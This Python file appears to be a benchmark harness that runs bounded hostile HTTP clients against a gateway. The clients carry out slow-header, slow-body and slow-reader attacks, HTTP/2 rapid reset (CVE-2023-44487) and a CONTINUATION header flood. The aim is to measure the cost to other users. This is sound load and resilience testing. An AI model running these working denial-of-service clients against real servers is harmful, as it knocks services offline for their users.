"""Clients that mean harm, in a process of their own: `gateway_attackers.py KIND HOST:PORT`.

They go on until SIGTERM, say `ready` once the attack is under way, and at the end, as JSON, what
they did: a bench whose attackers had stopped would show nothing. Each kind is bounded, by its
number of connections and by how often they begin anew. `tests/gateway/test_hostile.py` shows that
each such client is refused or cut off; here it is measured what that costs others.
"""

import asyncio
import contextlib
import json
import signal
import socket
import sys
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import Final, cast

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
"""With an empty SETTINGS frame."""
HEAD: Final = b"\x82\x86\x04\x02/x\x01\x01a"
"""GET /x of http://a by HPACK without its dynamic table."""
LARGE_HEAD: Final = b"\x82\x86\x04\x06/large\x01\x01a"
"""The same for /large."""
ROOM: Final = 2**30
"""Bytes that a slow reader of HTTP/2 says it would take: its windows hold nothing back."""
ANSWERS: Final = 10
"""That it asks for on one connection."""
DRIBBLE_SECONDS: Final = 1.0
RESETS: Final = 100
"""Requests given up in one write."""
PAUSE_SECONDS: Final = 0.05
"""Before a connection that was cut off begins anew."""
FLOOD_BYTES: Final = 1024 * 1024
"""Of headers that one connection sends at most."""
done: Counter[str] = Counter()

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """A frame of HTTP/2 (RFC 9113, section 4.1)."""
    return len(content).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + content


async def ended(reader: asyncio.StreamReader) -> None:
    """Until the gateway ends the connection; what it says is thrown away."""
    while await reader.read(65_536):
        pass


async def dribble(streams: Streams, begin: bytes) -> None:
    """Begin, and go on byte by byte until the connection is ended."""
    reader, writer = streams
    writer.write(begin)
    reading = asyncio.create_task(ended(reader))
    try:
        while not reading.done():
            writer.write(b"x")
            await writer.drain()
            done["bytes dribbled"] += 1
            await asyncio.wait([reading], timeout=DRIBBLE_SECONDS)
    finally:
        reading.cancel()


async def slow_head(streams: Streams) -> None:
    await dribble(streams, b"GET /x HTTP/1.1\r\nhost: a\r\nx: ")


async def slow_body(streams: Streams) -> None:
    await dribble(streams, b"POST /upload HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n")


async def slow_reader(streams: Streams) -> None:
    """Ask for 1 GiB, and take nothing for as long as the attack lasts."""
    _, writer = streams
    cast("asyncio.Transport", writer.transport).pause_reading()
    writer.write(b"GET /large HTTP/1.1\r\nhost: a\r\n\r\n")
    done["answers not taken"] += 1
    await asyncio.Event().wait()


async def slow_reader_http2(streams: Streams) -> None:
    """The same over HTTP/2: several answers of 1 GiB on a connection, and nothing is taken."""
    _, writer = streams
    cast("asyncio.Transport", writer.transport).pause_reading()
    room = ROOM.to_bytes(4)
    writer.write(PREFACE + frame(4, 0, 0, b"\0\4" + room) + frame(8, 0, 0, room))
    for stream in range(1, 2 * ANSWERS, 2):
        writer.write(frame(1, 5, stream, LARGE_HEAD))
    done["answers not taken"] += ANSWERS
    await asyncio.Event().wait()


async def rapid_reset(streams: Streams) -> None:
    """Give requests up as fast as they are made (CVE-2023-44487)."""
    reader, writer = streams
    reading = asyncio.create_task(ended(reader))
    writer.write(PREFACE)
    try:
        for first in range(1, 2 * RESETS * 100, 2 * RESETS):
            if reading.done():
                break
            writer.write(
                b"".join(
                    frame(1, 5, stream, HEAD) + frame(3, 0, stream, b"\0\0\0\x08")
                    for stream in range(first, first + 2 * RESETS, 2)
                )
            )
            await writer.drain()
            done["resets"] += RESETS
            await asyncio.sleep(0)
    finally:
        reading.cancel()


async def header_flood(streams: Streams) -> None:
    """A head that does not end (CONTINUATION), of fields that are larger than any limit."""
    reader, writer = streams
    reading = asyncio.create_task(ended(reader))
    field = b"\0\1x" + b"\x7f\x81\x7f" + b"y" * 16_256
    writer.write(PREFACE + frame(1, 1, 1, HEAD))
    try:
        for _ in range(FLOOD_BYTES // len(field)):
            if reading.done():
                break
            writer.write(frame(9, 0, 1, field))
            await writer.drain()
            done["bytes of headers"] += len(field)
            await asyncio.sleep(0)
    finally:
        reading.cancel()


ATTACKS: Final[dict[str, tuple[int, Callable[[Streams], Awaitable[None]]]]] = {
    "slow head": (500, slow_head),
    "slow body": (200, slow_body),
    "slow reader": (200, slow_reader),
    "slow reader, HTTP/2": (20, slow_reader_http2),
    "rapid reset": (8, rapid_reset),
    "header flood": (8, header_flood),
}
"""How many connections at a time do what."""


async def attack(
    kind: Callable[[Streams], Awaitable[None]], address: str, begun: asyncio.Event
) -> None:
    """Connect, do harm, and begin anew when cut off."""
    host, _, port = address.partition(":")
    while True:
        client = socket.socket()
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 * 1024)
        client.setblocking(False)
        try:
            await asyncio.get_running_loop().sock_connect(client, (host, int(port)))
        except OSError:
            client.close()
            done["refused"] += 1
        else:
            streams = await asyncio.open_connection(sock=client)
            done["connections"] += 1
            begun.set()
            with contextlib.suppress(ConnectionError):  # cut off, as it should be
                await kind(streams)
            done["cut off"] += 1
            streams[1].transport.abort()
        await asyncio.sleep(PAUSE_SECONDS)


async def main(name: str, address: str) -> None:
    number, kind = ATTACKS[name]
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    begun = [asyncio.Event() for _ in range(number)]
    attackers = [asyncio.create_task(attack(kind, address, each)) for each in begun]
    await asyncio.gather(*(each.wait() for each in begun))
    print("ready", flush=True)
    stopping = asyncio.create_task(stop.wait())
    # An attacker never ends by itself: if one does, its error is raised below.
    await asyncio.wait([stopping, *attackers], return_when=asyncio.FIRST_COMPLETED)
    for each in attackers:
        if each.done():
            each.result()
        each.cancel()
    print(json.dumps(done), flush=True)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
